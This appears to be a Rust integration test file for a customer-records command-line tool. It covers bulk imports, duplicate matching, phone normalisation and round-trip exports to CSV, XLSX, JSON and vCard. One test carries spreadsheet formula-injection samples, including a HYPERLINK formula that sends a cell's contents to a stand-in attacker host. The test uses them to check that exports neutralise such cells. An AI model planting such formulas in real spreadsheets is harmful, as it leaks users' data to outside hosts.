//! Real files through the real command line: every row accounted for, every fen there.

#![expect(clippy::unwrap_used, reason = "a story that cannot go on has failed")]

use std::{collections::BTreeMap, path::Path};

use serde_json::{Value, json};
use shuke_tests::{Device, binaries, data, device::text};

fn accounted(summary: &Value) {
    let count = |name: &str| summary[name].as_u64().unwrap();
    assert_eq!(
        count("rows"),
        count("created") + count("updated") + count("skipped") + count("failed"),
        "{summary}"
    );
}

/// Every customer as the grid has them, page by page.
fn everyone(device: &Device) -> Vec<Value> {
    let mut all = Vec::new();
    let mut after = Value::Null;
    loop {
        let page = device.call("customer.list", &json!({ "limit": 1_000, "after": after }));
        all.extend(page["rows"].as_array().unwrap().iter().cloned());
        after = page["next"].clone();
        if after.is_null() {
            return all;
        }
    }
}

fn records<'a>(dump: &'a str, collection: &str) -> Vec<Value> {
    let of = |line: &&'a str| line.contains(&format!("\"collection\":\"{collection}\""));
    dump.lines().filter(of).map(|line| serde_json::from_str(line).unwrap()).collect()
}

const CDNOW: &[&str] = &[
    "--kind",
    "sales",
    "--map",
    "customer_id=customer_no",
    "--map",
    "date=date",
    "--map",
    "number_of_cds=quantity",
    "--map",
    "dollar_value=amount",
];

#[test]
fn the_cdnow_log_comes_in_whole() {
    let Some(file) = data::file("cdnow/CDNOW_master.txt") else { return };
    if !binaries::are_built(&["shukectl"]) {
        return;
    }
    let device = Device::founded("CDNOW");
    let import = |more: &[&str]| {
        let arguments: Vec<&str> =
            ["import", text(&file)].iter().chain(CDNOW).chain(more).copied().collect();
        device.run(&arguments)
    };

    let trial = import(&["--dry-run"]);
    assert_eq!((&trial["rows"], &trial["created"]), (&json!(69_659), &json!(69_659)), "{trial}");
    assert_eq!(device.run(&["customer", "count"])["count"], 0, "a trial writes nothing");

    let summary = import(&[]);
    accounted(&summary);
    assert_eq!(
        (&summary["rows"], &summary["created"]),
        (&json!(69_659), &json!(69_659)),
        "{summary}"
    );
    assert_eq!((&summary["errors"], &summary["failed"]), (&json!([]), &json!(0)));
    assert!(summary["import_id"].is_string());

    assert_eq!(device.run(&["customer", "count"])["count"], 23_570);
    let everyone = everyone(&device);
    assert_eq!(everyone.len(), 23_570);
    let sum = |field: &str| everyone.iter().map(|row| row[field].as_i64().unwrap()).sum::<i64>();
    assert_eq!(sum("spent"), 250_031_563, "2,500,315.63");
    assert_eq!(sum("sales"), 69_659);

    // One customer against the file, read here by hand.
    let log = std::fs::read_to_string(&file).unwrap();
    let mut theirs: BTreeMap<&str, (i64, i64, i64)> = BTreeMap::new();
    for line in log.lines().skip(1) {
        let columns: Vec<&str> = line.split_whitespace().collect();
        let [customer, _, pieces, dollars] = columns[..] else { continue };
        let entry = theirs.entry(customer).or_default();
        let (whole, cents) = dollars.split_once('.').unwrap();
        *entry = (
            entry.0 + 1,
            entry.1 + pieces.parse::<i64>().unwrap() * 1_000,
            entry.2 + whole.parse::<i64>().unwrap() * 100 + cents.parse::<i64>().unwrap(),
        );
    }
    assert_eq!(theirs.len(), 23_570);
    for row in &everyone {
        let (sales, units, spent) = theirs[row["member_no"].as_str().unwrap()];
        let ours = (row["sales"].as_i64(), row["units"].as_i64(), row["spent"].as_i64());
        assert_eq!(ours, (Some(sales), Some(units), Some(spent)), "{row}");
    }
}

fn gb18030(device: &Device) -> Option<(Value, Value)> {
    let file = data::file("import/customers_gb18030.csv")?;
    let expected = data::file("import/expected_gb18030.json")?;
    if !binaries::are_built(&["shukectl"]) {
        return None;
    }
    device.run(&["init", "--workspace", "导入"]);
    let summary = device.run(&["import", text(&file), "--kind", "customers"]);
    Some((summary, serde_json::from_slice(&std::fs::read(expected).unwrap()).unwrap()))
}

#[test]
fn every_row_of_the_thousand_customers_is_accounted_for() {
    let device = Device::new();
    let Some((summary, expected)) = gb18030(&device) else { return };
    accounted(&summary);
    assert_eq!((&summary["encoding"], &summary["delimiter"]), (&json!("GB18030"), &json!(";")));
    let number = |name: &str| expected[name].as_u64().unwrap();
    let skipped = summary["skipped"].as_u64().unwrap();
    assert_eq!(summary["failed"], 0, "{summary:#}");
    assert_eq!(summary["rows"].as_u64().unwrap() - skipped, number("customer_rows"));
    let errors = summary["errors"].as_array().unwrap();
    let of = |code: &str| errors.iter().filter(|error| error["code"] == code).count() as u64;
    assert_eq!(of("row.repeated_header"), number("repeated_header_rows"));
    assert_eq!(of("row.totals"), number("totals_rows"));
    assert_eq!(
        skipped,
        errors.iter().filter(|error| error["code"].as_str().unwrap().starts_with("row.")).count()
            as u64
    );

    // Whoever has the same number, or a phone and a like name, was updated; nobody else: each of the
    // people in the file still has one of their numbers.
    let created = summary["created"].as_u64().unwrap();
    assert_eq!(device.run(&["customer", "count"])["count"], created);
    assert!(created >= number("distinct_true_persons"), "{created} customers");
    assert!(
        summary["updated"].as_u64().unwrap()
            >= number("pairs_with_phone_or_member_no_evidence") - 2
    );
    let dump = device.dump();
    let customers = records(&dump, "customer");
    let by_number: BTreeMap<&str, &Value> = customers
        .iter()
        .filter_map(|customer| {
            Some((customer["fields"]["member_no"].as_str()?, &customer["fields"]))
        })
        .collect();
    let mut people: BTreeMap<u64, bool> = BTreeMap::new();
    for row in expected["rows"].as_array().unwrap() {
        let there = by_number.contains_key(row["fields"][0].as_str().unwrap());
        *people.entry(row["person"].as_u64().unwrap()).or_default() |= there;
    }
    let missing: Vec<_> = people.iter().filter(|(_, there)| !**there).collect();
    assert!(missing.is_empty(), "written over by somebody else: {missing:?}");

    // Leading zeros, full-width digits and mangled phones.
    assert_eq!(by_number["00000417"]["phone"], "+8617769640992", "written １７７６９６４０９９２");
    assert_eq!(by_number["00000670"]["phone"], "+8613182368358", "written with 0086");
    assert_eq!(by_number["00000100"]["phone"], "1.77688E+10", "kept as it came");
    assert!(errors.iter().any(|error| error["value"] == "1.77688E+10"), "and reported");
    let mangled = expected["mobile_status"]["excel_scientific"].as_u64().unwrap();
    assert!(of("field.phone_mangled") == mangled, "{} of {mangled}", of("field.phone_mangled"));

    // The same file again changes nobody into somebody else: all rows find their customers.
    let file = data::file("import/customers_gb18030.csv").unwrap();
    let again = device.run(&["import", text(&file), "--kind", "customers"]);
    accounted(&again);
    assert_eq!(
        (&again["created"], &again["failed"]),
        (&json!(0), &json!(0)),
        "{:.600}",
        again.to_string()
    );
    assert_eq!(device.run(&["customer", "count"])["count"], created);
}

/// What a spreadsheet would run is inert in the file, and itself again after our own import.
#[test]
fn formulas_are_inert_on_the_way_out_and_restored_on_the_way_in() {
    if !binaries::are_built(&["shukectl"]) {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let formula = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点我\")";
    let texts = [formula, "+1+1", "-2", "@SUM(A1)", "'quoted", "plain"];
    let from = Device::founded("出");
    for (place, remarks) in texts.iter().enumerate() {
        let (name, set) = (format!("客 {place}"), format!("remarks={remarks}"));
        from.add_customer(&name, &["--set", &format!("member_no=000{place}"), "--set", &set]);
    }
    let path = folder.path().join("customers.csv");
    assert_eq!(from.run(&["export", text(&path), "--kind", "customers"])["rows"], texts.len());
    let written = std::fs::read_to_string(&path).unwrap();
    for cell in written.split(['\n', ',']).map(|cell| cell.trim().trim_matches('"')) {
        assert!(!cell.starts_with(['=', '@', '+', '-']), "a spreadsheet would run {cell}");
    }

    let to = Device::founded("进");
    let summary = to.run(&["import", text(&path), "--kind", "customers"]);
    assert_eq!(
        (&summary["created"], &summary["errors"]),
        (&json!(texts.len()), &json!([])),
        "{summary:#}"
    );
    for (place, remarks) in texts.iter().enumerate() {
        let hits = to.run(&["search", &format!("000{place}")]);
        let file = to.show(hits["hits"][0]["id"].as_str().unwrap());
        assert_eq!(file["remarks"], *remarks);
    }
}

/// Everything a file of the ending can say comes back as it was.
fn round_trip(ending: &str) {
    let device = Device::new();
    if gb18030(&device).is_none() {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join(format!("customers.{ending}"));
    let count = device.run(&["customer", "count"])["count"].clone();
    assert_eq!(device.run(&["export", text(&path), "--kind", "customers"])["rows"], count);
    let before = records(&device.dump(), "customer");
    reimported(&device, &path, &count);
    let after = records(&device.dump(), "customer");
    assert_eq!(before.len(), after.len());
    for (before, after) in before.iter().zip(&after) {
        assert_eq!(before["fields"], after["fields"], "changed by {ending}");
    }
}

fn reimported(device: &Device, path: &Path, count: &Value) {
    let summary = device.run(&["import", text(path), "--kind", "customers"]);
    accounted(&summary);
    assert_eq!(
        (&summary["rows"], &summary["failed"], &summary["created"]),
        (count, &json!(0), &json!(0)),
        "{:.2000}",
        summary.to_string()
    );
    assert_eq!(device.run(&["customer", "count"])["count"], *count);
}

#[test]
fn csv_comes_back_as_it_left() {
    round_trip("csv");
}

#[test]
fn xlsx_comes_back_as_it_left() {
    round_trip("xlsx");
}

/// For programs: numbers are numbers, what is not known is null, and nothing is made up.
#[test]
fn json_says_what_stands_here() {
    let device = Device::new();
    if gb18030(&device).is_none() {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("customers.json");
    let count = device.run(&["export", text(&path), "--kind", "customers"])["rows"].clone();
    let written: Vec<Value> = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    assert_eq!(count, written.len());
    let records = records(&device.dump(), "customer");
    let by_number: BTreeMap<&str, &Value> = records
        .iter()
        .filter_map(|customer| {
            Some((customer["fields"]["member_no"].as_str()?, &customer["fields"]))
        })
        .collect();
    for row in &written {
        let fields = by_number[row["member_no"].as_str().unwrap()];
        for field in [
            "name", "phone", "landline", "email", "birthday", "gender", "address", "company",
            "remarks",
        ] {
            assert_eq!(row[field], fields[field], "{field} of {row}");
        }
        assert_eq!(row["spent"], fields["spent_before"].as_i64().unwrap_or_default(), "{row}");
    }
}

/// Address books know no tiers and no member numbers of ours: that everyone is in it is enough.
#[test]
fn a_card_file_holds_everyone() {
    if !binaries::are_built(&["shukectl"]) {
        return;
    }
    let device = Device::founded("名片");
    device.add_customer("王敏", &["--phone", "13805716688"]);
    device.add_customer("Zoë O'Neill", &["--set", "email=zoe@example.org"]);
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("customers.vcf");
    assert_eq!(device.run(&["export", text(&path), "--kind", "customers"])["rows"], 2);
    let cards = std::fs::read_to_string(&path).unwrap();
    assert_eq!(cards.matches("BEGIN:VCARD").count(), 2, "{cards}");
    for said in ["王敏", "Zoë O'Neill", "+8613805716688", "zoe@example.org"] {
        assert!(cards.contains(said), "{said}: {cards}");
    }
}
